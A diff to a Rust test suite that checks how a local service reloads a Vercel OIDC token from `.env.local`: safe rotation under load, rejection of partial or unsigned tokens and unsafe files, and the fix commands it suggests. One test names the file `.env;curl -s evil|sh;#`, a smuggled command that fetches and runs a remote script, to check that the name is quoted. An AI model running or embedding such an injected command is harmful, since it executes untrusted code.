@@ -1,5 +1,5 @@
-//! A change of `.env.local`: however an editor or the CLI writes it, no request fails and no half token is used; and
-//! whatever else may be there is named, never followed into harm (docs/configuration.md section 3).
+//! Changes of `.env.local`: however it is written, no request fails and no partial token is used. Anything unsafe in its
+//! place is reported and not read (docs/configuration.md section 3).
 
 use std::fs;
 use std::io::Write;
@@ -14,32 +14,32 @@ use tokio::sync::oneshot;
 use crate::support::http::Request;
 use crate::support::{SLACK, Scene, Stage, env_file, fingerprint, soon, write_private};
 
-/// Asks until it is told to stop, never for the same token twice, so that each answer needs the credential; no more
-/// often than may go upstream.
-async fn keep_asking(addr: SocketAddr, mut stopped: oneshot::Receiver<()>) {
-    let mut asked = 0;
+/// Sends requests until stopped. Each is for another token, so that it needs the credential. The pace is below the upstream
+/// rate limit.
+async fn send_requests(addr: SocketAddr, mut stopped: oneshot::Receiver<()>) {
+    let mut count = 0;
     let mut pace = tokio::time::interval(Duration::from_millis(60));
     while stopped.try_recv() == Err(oneshot::error::TryRecvError::Empty) {
-        asked += 1;
+        count += 1;
         pace.tick().await;
-        let body = format!(r#"{{"scopes":["{asked}"]}}"#);
+        let body = format!(r#"{{"scopes":["{count}"]}}"#);
         let reply = Request::new(addr, "POST", SLACK).json(&body).send().await;
         assert_eq!(reply.status, 200, "{reply:?}");
     }
 }
 
-/// Makes a change that ends with `fresh` in use, while an app keeps asking: all its requests are answered, each with
-/// the token before or the fresh one.
-async fn rotate_while_asking(stage: &mut Stage, how: &str, fresh: &str, change: impl AsyncFnOnce(&mut Stage)) {
+/// Makes a change that brings `fresh` into use while an app sends requests. All must succeed, each with the old or the
+/// fresh token.
+async fn rotate_under_load(stage: &mut Stage, description: &str, fresh: &str, change: impl AsyncFnOnce(&mut Stage)) {
     let before = in_use(stage);
     let first = stage.emulator.received().len();
     let (stop, stopped) = oneshot::channel();
-    let app = tokio::spawn(keep_asking(stage.addr, stopped));
+    let app = tokio::spawn(send_requests(stage.addr, stopped));
     stage.emulator.wait_for_requests(first + 1).await;
     change(stage).await;
-    soon(how, stage.uses(fresh)).await;
+    soon(description, stage.uses(fresh)).await;
     let _ = stop.send(());
-    soon(how, app).await.expect("only good answers");
+    soon(description, app).await.expect("only successful responses");
     stage.token(r#"{"scopes":["last"]}"#).header("cache-control", "no-cache").send().await;
     let received = stage.emulator.received();
     let bearers: Vec<_> = received[first..]
@@ -49,7 +49,10 @@ async fn rotate_while_asking(stage: &mut Stage, how: &str, fresh: &str, change: 
         })
         .collect();
     let (before, after) = (before.as_str(), fingerprint(fresh));
-    assert!(bearers.iter().all(|bearer| *bearer == before || *bearer == after), "{how}: half a token went upstream");
+    assert!(
+        bearers.iter().all(|bearer| *bearer == before || *bearer == after),
+        "{description}: a partial token went upstream"
+    );
     assert_eq!((bearers.first().map(String::as_str), bearers.last()), (Some(before), Some(&after)));
 }
 
@@ -58,16 +61,16 @@ fn in_use(stage: &Stage) -> String {
     stage.identity.borrow().oidc().expect("a token").fingerprint().to_owned()
 }
 
-/// A token issued after all others.
+/// A token issued later than all before.
 fn next_token(stage: &Stage) -> String {
     stage.pass(Duration::from_secs(1));
     stage.fresh_token(DEVELOPMENT_LIFE)
 }
 
 #[tokio::test]
-async fn no_way_to_write_the_file_fails_a_request() {
-    type Dance = fn(&Path, &str);
-    let dances: &[(&str, Dance)] = &[
+async fn no_way_of_writing_the_file_fails_a_request() {
+    type Change = fn(&Path, &str);
+    let changes: &[(&str, Change)] = &[
         ("truncated and written", |path, content| fs::write(path, content).expect("written")),
         ("renamed over", |path, content| {
             write_private(&path.with_extension("tmp"), content);
@@ -116,15 +119,16 @@ async fn no_way_to_write_the_file_fails_a_request() {
         }),
     ];
     let mut stage = Scene::new().start().await;
-    for (how, dance) in dances {
+    for (description, change) in changes {
         let fresh = next_token(&stage);
-        rotate_while_asking(&mut stage, how, &fresh, async |stage| dance(&stage.env_path(), &env_file(&fresh))).await;
+        rotate_under_load(&mut stage, description, &fresh, async |stage| change(&stage.env_path(), &env_file(&fresh)))
+            .await;
     }
-    assert_eq!(stage.logs.count("token refreshed"), dances.len(), "each once");
+    assert_eq!(stage.logs.count("token refreshed"), changes.len(), "one line each");
 }
 
 #[tokio::test]
-async fn half_a_token_is_never_used() {
+async fn a_partial_token_is_never_used() {
     let mut stage = Scene::new().start().await;
     for form in [
         "A=1\nVERCEL_OIDC_TOKEN=\"{token}\"\nB=2\n",
@@ -134,7 +138,7 @@ async fn half_a_token_is_never_used() {
         let fresh = next_token(&stage);
         let content = form.replace("{token}", &fresh);
         let end_of_token = content.find(&fresh).expect("it is there") + fresh.len();
-        rotate_while_asking(&mut stage, form, &fresh, async |stage| {
+        rotate_under_load(&mut stage, form, &fresh, async |stage| {
             let before = in_use(stage);
             let mut file = fs::File::create(stage.env_path()).expect("truncated");
             for piece in content.as_bytes()[..end_of_token].chunks(end_of_token / 9) {
@@ -152,7 +156,7 @@ async fn half_a_token_is_never_used() {
 async fn a_bare_token_without_a_line_end_is_used_once_it_has_settled() {
     let mut stage = Scene::new().start().await;
     let fresh = next_token(&stage);
-    rotate_while_asking(&mut stage, "a bare token", &fresh, async |stage| {
+    rotate_under_load(&mut stage, "a bare token", &fresh, async |stage| {
         fs::write(stage.env_path(), format!("VERCEL_OIDC_TOKEN={fresh}")).expect("written");
     })
     .await;
@@ -164,14 +168,14 @@ async fn a_links_target_is_followed_into_another_directory() {
     let elsewhere = stage.dir().join("elsewhere");
     fs::create_dir(&elsewhere).expect("a directory");
     let first = next_token(&stage);
-    rotate_while_asking(&mut stage, "a link", &first, async |stage| {
+    rotate_under_load(&mut stage, "a link", &first, async |stage| {
         write_private(&elsewhere.join("env"), &env_file(&first));
         fs::remove_file(stage.env_path()).expect("removed");
         symlink(elsewhere.join("env"), stage.env_path()).expect("a link");
     })
     .await;
     let second = next_token(&stage);
-    rotate_while_asking(&mut stage, "its target", &second, async |_| {
+    rotate_under_load(&mut stage, "its target", &second, async |_| {
         fs::write(elsewhere.join("env"), env_file(&second)).expect("written");
     })
     .await;
@@ -181,19 +185,19 @@ async fn a_links_target_is_followed_into_another_directory() {
 async fn a_replaced_directory_is_followed() {
     let mut stage = Scene::new().start().await;
     let first = next_token(&stage);
-    rotate_while_asking(&mut stage, "another directory", &first, async |stage| {
+    rotate_under_load(&mut stage, "another directory", &first, async |stage| {
         fs::rename(&stage.project, stage.dir().join("moved")).expect("renamed");
         fs::create_dir(&stage.project).expect("a directory");
         write_private(&stage.env_path(), &env_file(&first));
     })
     .await;
     let second = next_token(&stage);
-    rotate_while_asking(&mut stage, "a file in it", &second, async |stage| stage.write_env(&second)).await;
+    rotate_under_load(&mut stage, "a file in it", &second, async |stage| stage.write_env(&second)).await;
     assert_eq!(stage.logs.count("token refreshed"), 2);
 }
 
 #[tokio::test]
-async fn a_deleted_file_leaves_the_last_good_token_in_use_for_a_while() {
+async fn the_last_token_stays_in_use_for_a_while_after_the_file_is_deleted() {
     let stage = Scene::new().start().await;
     let before = in_use(&stage);
     fs::remove_file(stage.env_path()).expect("removed");
@@ -206,7 +210,7 @@ async fn a_deleted_file_leaves_the_last_good_token_in_use_for_a_while() {
 }
 
 #[tokio::test]
-async fn a_file_that_comes_later_is_used() {
+async fn a_file_that_is_created_later_is_used() {
     for (directory, env_path) in [("web", ".env.local"), ("web/later", "later/.env")] {
         let mut stage = Scene::new().toml(&format!("env_file = {env_path:?}")).without_env_file().start().await;
         let reply = stage.token("{}").send().await;
@@ -216,7 +220,7 @@ async fn a_file_that_comes_later_is_used() {
         assert_eq!(
             stage.logs.count("vercel env pull"),
             2,
-            "at the start, and of the request: {:?}",
+            "at the start and for the request: {:?}",
             stage.logs.lines()
         );
         let token = next_token(&stage);
@@ -229,7 +233,7 @@ async fn a_file_that_comes_later_is_used() {
 }
 
 #[tokio::test]
-async fn the_last_of_several_assignments_wins_with_one_warning() {
+async fn the_last_of_several_assignments_counts_with_one_warning() {
     let mut stage = Scene::new().start().await;
     let (first, last) = (next_token(&stage), next_token(&stage));
     let content = format!("{}export VERCEL_OIDC_TOKEN='{last}'\n", env_file(&first));
@@ -243,7 +247,7 @@ async fn the_last_of_several_assignments_wins_with_one_warning() {
 }
 
 #[tokio::test]
-async fn a_file_that_others_can_read_is_one_warning() {
+async fn a_file_that_others_can_read_gives_one_warning() {
     let mut stage = Scene::new().start().await;
     let chmod = |stage: &Stage, mode| {
         fs::set_permissions(stage.env_path(), fs::Permissions::from_mode(mode)).expect("a mode");
@@ -261,7 +265,7 @@ async fn a_file_that_others_can_read_is_one_warning() {
 }
 
 #[tokio::test]
-async fn a_file_that_is_named_like_a_command_is_none_in_what_mends_it() {
+async fn the_file_name_is_quoted_in_the_suggested_command() {
     const NAME: &str = ".env;curl -s evil|sh;#";
     let mut stage = Scene::new().toml(&format!("env_file = {NAME:?}")).without_env_file().start().await;
     let (file, token) = (stage.project.join(NAME), next_token(&stage));
@@ -274,39 +278,39 @@ async fn a_file_that_is_named_like_a_command_is_none_in_what_mends_it() {
 }
 
 #[tokio::test]
-async fn what_is_not_safe_to_read_or_no_token_is_named_and_nothing_is_sent() {
+async fn unsafe_files_and_invalid_tokens_are_reported_and_nothing_is_sent() {
     let stage = Scene::new().without_env_file().start().await;
     let path = stage.env_path();
     let token = stage.fresh_token(DEVELOPMENT_LIFE);
     let assign = |value: &str| format!("VERCEL_OIDC_TOKEN={value}\n").into_bytes();
     let utf16 = |bytes: fn(u16) -> [u8; 2]| env_file(&token).encode_utf16().flat_map(bytes).collect::<Vec<_>>();
     let unsigned = format!("eyJhbGciOiJub25lIn0{}", &token[token.find('.').expect("a dot")..]);
-    enum Thing {
+    enum Content {
         Link(&'static str),
         Directory,
         Fifo,
         WorldWritable,
-        Content(Vec<u8>),
+        Bytes(Vec<u8>),
     }
-    use Thing::*;
-    for (thing, reason) in [
+    use Content::*;
+    for (content, reason) in [
         (Link("nowhere"), None),
         (Link("/dev/zero"), Some("it is a device")),
         (Link(".env.local"), Some("it is a loop of links")),
         (Directory, Some("it is a directory")),
         (Fifo, Some("it is a FIFO")),
         (WorldWritable, Some("everybody may write to it")),
-        (Content(vec![b' '; 1024 * 1024 + 1]), Some("it is larger than 1 MiB")),
-        (Content(utf16(u16::to_le_bytes)), Some("the file is UTF-16, save it as UTF-8")),
-        (Content([b"\xfe\xff".to_vec(), utf16(u16::to_be_bytes)].concat()), Some("the file is UTF-16")),
-        (Content([format!("TOKEN={token}\n").into(), assign("$TOKEN")].concat()), Some("nothing is expanded here")),
-        (Content([format!("TOKEN={token}\n").into(), assign("\"${TOKEN}\"")].concat()), Some("nothing is expanded")),
-        (Content(assign(&format!("\"{token}"))), Some("closing quote is missing")),
-        (Content(assign(&token[..token.len() / 2])), Some("three base64url parts")),
-        (Content(assign(&unsigned)), Some("it is unsigned")),
-        (Content(assign("[SENSITIVE]")), Some("withheld by `vercel env pull`")),
+        (Bytes(vec![b' '; 1024 * 1024 + 1]), Some("it is larger than 1 MiB")),
+        (Bytes(utf16(u16::to_le_bytes)), Some("the file is UTF-16, save it as UTF-8")),
+        (Bytes([b"\xfe\xff".to_vec(), utf16(u16::to_be_bytes)].concat()), Some("the file is UTF-16")),
+        (Bytes([format!("TOKEN={token}\n").into(), assign("$TOKEN")].concat()), Some("nothing is expanded here")),
+        (Bytes([format!("TOKEN={token}\n").into(), assign("\"${TOKEN}\"")].concat()), Some("nothing is expanded")),
+        (Bytes(assign(&format!("\"{token}"))), Some("closing quote is missing")),
+        (Bytes(assign(&token[..token.len() / 2])), Some("three base64url parts")),
+        (Bytes(assign(&unsigned)), Some("it is unsigned")),
+        (Bytes(assign("[SENSITIVE]")), Some("withheld by `vercel env pull`")),
     ] {
-        match thing {
+        match content {
             Link(target) => symlink(target, &path).expect("a link"),
             Directory => fs::create_dir(&path).expect("a directory"),
             Fifo => nix::unistd::mkfifo(&path, nix::sys::stat::Mode::S_IRWXU).expect("a FIFO"),
@@ -314,7 +318,7 @@ async fn what_is_not_safe_to_read_or_no_token_is_named_and_nothing_is_sent() {
                 write_private(&path, &env_file(&token));
                 fs::set_permissions(&path, fs::Permissions::from_mode(0o666)).expect("a mode");
             }
-            Content(bytes) => fs::write(&path, bytes).expect("written"),
+            Bytes(bytes) => fs::write(&path, bytes).expect("written"),
         }
         stage.reloader.reload().await;
         let code = if reason.is_some() { "oidc_token_invalid" } else { "oidc_token_missing" };
@@ -322,18 +326,19 @@ async fn what_is_not_safe_to_read_or_no_token_is_named_and_nothing_is_sent() {
         assert_eq!((reply.status, reply.code().as_str()), (503, code), "{reason:?}: {}", reply.text());
         let message = reply.json()["error"]["message"].as_str().expect("a message").to_owned();
         assert!(message.contains(reason.unwrap_or("There is no OIDC token")), "{message}");
-        let mends = match reason {
+        let remedy = match reason {
             Some("everybody may write to it") => "chmod 600 .env.local",
             Some("it is larger than 1 MiB") => "nothing but variables in .env.local",
             _ => "vercel env pull",
         };
-        assert!(message.contains(mends) && !message.contains(&token[..16]), "{message}");
+        assert!(message.contains(remedy) && !message.contains(&token[..16]), "{message}");
         assert_eq!(stage.request("GET", "/healthz").send().await.status, 200);
         assert_eq!(stage.request("GET", "/readyz").send().await.code(), code);
         if let Some(reason) = reason {
             assert!(stage.status().await["oidc"]["reason"].as_str().expect("a reason").contains(reason));
-            let said = |line: &String| line.contains("cannot use the token in .env.local") && line.contains(reason);
-            assert!(stage.logs.lines().iter().any(said), "{reason}");
+            let is_report =
+                |line: &String| line.contains("cannot use the token in .env.local") && line.contains(reason);
+            assert!(stage.logs.lines().iter().any(is_report), "{reason}");
         }
         fs::remove_file(&path).or_else(|_| fs::remove_dir(&path)).expect("removed");
     }
@@ -344,14 +349,14 @@ async fn what_is_not_safe_to_read_or_no_token_is_named_and_nothing_is_sent() {
 }
 
 #[tokio::test]
-async fn other_lines_may_be_broken_in_any_way() {
+async fn other_lines_may_be_malformed() {
     let mut stage = Scene::new().start().await;
     let fresh = next_token(&stage);
-    let ours = format!("export VERCEL_OIDC_TOKEN = \"{fresh}\"   # mine\r\n");
+    let assignment = format!("export VERCEL_OIDC_TOKEN = \"{fresh}\"   # mine\r\n");
     let lines: [&[u8]; 4] = [
         b"\xef\xbb\xbfthis is no assignment\nA=it's\nB=\"open\n",
         b"C=C:\\Users\\$HOME `x` ${\n=\n\xe9\xff\0\nVERCEL_OIDC_TOKEN_OLD=x\n#VERCEL_OIDC_TOKEN=y\r",
-        ours.as_bytes(),
+        assignment.as_bytes(),
         b"D='open\nE=\"\"\"\nF=\x1b[31m",
     ];
     fs::write(stage.env_path(), lines.concat()).expect("written");
@@ -360,9 +365,9 @@ async fn other_lines_may_be_broken_in_any_way() {
 }
 
 #[tokio::test]
-async fn what_is_advised_mends_the_file_itself_in_the_reply_the_state_and_the_log() {
-    type Spoil = fn(&std::path::Path);
-    let spoils: [(Spoil, &str); 4] = [
+async fn response_status_and_log_suggest_the_command_that_fixes_the_file() {
+    type Damage = fn(&std::path::Path);
+    let cases: [(Damage, &str); 4] = [
         (|path| fs::set_permissions(path, fs::Permissions::from_mode(0o777)).expect("a mode"), "chmod 600 .env.local"),
         (
             |path| {
@@ -374,22 +379,25 @@ async fn what_is_advised_mends_the_file_itself_in_the_reply_the_state_and_the_lo
         (|path| fs::set_permissions(path, fs::Permissions::from_mode(0o200)).expect("a mode"), "chmod u+r .env.local"),
         (|path| std::os::unix::fs::chown(path, Some(12_345), None).expect("an owner"), "chown root .env.local"),
     ];
-    for (spoil, command) in spoils {
+    for (damage, command) in cases {
         let is_of_root = command.starts_with("chown");
-        // To root nothing is unreadable, and nobody else may give a file away.
+        // Root can read every file, and only root can change its owner.
         let depends_on_user = is_of_root || command.starts_with("chmod u+r");
         if depends_on_user && nix::unistd::Uid::effective().is_root() != is_of_root {
             continue;
         }
         let stage = Scene::new().without_env_file().start().await;
         write_private(&stage.env_path(), &env_file(&stage.fresh_token(Duration::from_secs(600))));
-        spoil(&stage.env_path());
+        damage(&stage.env_path());
         stage.reloader.reload().await;
         stage.logs.wait_for(&format!("run `{command}`")).await;
         let error = stage.token("{}").send().await.json()["error"].clone();
         assert_eq!(error["command"], command, "{error}");
         assert!(error["hint"].as_str().is_some_and(|hint| hint.contains(command)), "{error}");
-        assert!(!error["message"].as_str().is_some_and(|said| said.ends_with("Run `vercel env pull`.")), "{error}");
+        assert!(
+            !error["message"].as_str().is_some_and(|message| message.ends_with("Run `vercel env pull`.")),
+            "{error}"
+        );
         let warning = &stage.status().await["warnings"][0];
         assert_eq!((&warning["code"], &warning["command"]), (&"oidc_token_invalid".into(), &command.into()));
     }
